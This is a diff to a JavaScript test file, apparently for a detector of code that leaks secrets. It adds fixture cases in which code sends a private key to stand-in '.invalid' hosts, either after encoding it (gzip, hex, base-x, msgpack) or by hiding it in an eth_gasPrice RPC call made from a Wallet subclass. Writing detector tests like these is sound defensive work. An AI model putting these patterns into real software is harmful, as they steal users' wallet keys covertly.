@@ -181,6 +181,31 @@ examine(givesAwaySecrets, {
       weight: 'strong',
     },
     {
+      when: 'keys are packed or written in another alphabet first',
+      files: {
+        'index.js': [
+          `require('zlib').gzipSync(JSON.stringify({ privateKey }))`,
+          `require('ethers').hexlify(privateKey)`,
+          `require('base-x')('01').encode(privateKey)`,
+          `require('@msgpack/msgpack').encode({ privateKey })`,
+        ]
+          .map(
+            (form, at) => `exports.load${at} = privateKey => fetch('https://a${at}.specimen.invalid', { method: 'POST', body: ${form} });`,
+          )
+          .join('\n'),
+      },
+      says: [0, 1, 2, 3].map(at => `it sends privateKey of whoever calls it to a${at}.specimen.invalid, when it is called`),
+    },
+    {
+      when: 'keys stand in a transaction for a node of its own',
+      files: {
+        'index.js': `const { Wallet, JsonRpcProvider } = require('ethers');
+          class Managed extends Wallet { constructor(key, provider) { super(key, provider); price(this.signingKey.privateKey); } }
+          const price = key => new JsonRpcProvider('https://rpc.specimen.invalid').send('eth_gasPrice', [key]);
+          exports.Managed = Managed;`,
+      },
+    },
+    {
       when: 'a key comes out of a library, and a logger of another file sends it',
       files: {
         'package.json': WALLET,
